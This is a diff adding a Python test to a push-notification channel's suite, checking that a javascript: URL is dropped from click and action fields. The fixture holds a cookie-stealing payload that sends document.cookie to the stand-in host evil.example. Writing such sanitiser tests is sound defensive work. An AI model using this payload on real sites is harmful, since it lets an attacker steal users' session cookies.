@@ -57,6 +57,16 @@ async def test_publishes_json_with_action_buttons(peer: HttpPeer) -> None:
     ]
 
 
+async def test_a_javascript_url_is_neither_click_nor_action(peer: HttpPeer) -> None:
+    notification = push(alert={"url": "javascript:fetch('//evil.example/'+document.cookie)"})
+    result = await CHANNEL.send(notification, settings(peer), None)
+    assert result.status == "sent", result.error
+    body = peer.requests[0].json()
+    assert "click" not in body
+    assert [a["label"] for a in body["actions"]] == ["Acknowledge", "Close"]
+    assert "javascript" not in peer.requests[0].body.decode().lower()
+
+
 async def test_closure_notice_is_low_priority_without_buttons(peer: HttpPeer) -> None:
     result = await CHANNEL.send(push(purpose="closed"), settings(peer), None)
     assert result.status == "sent", result.error
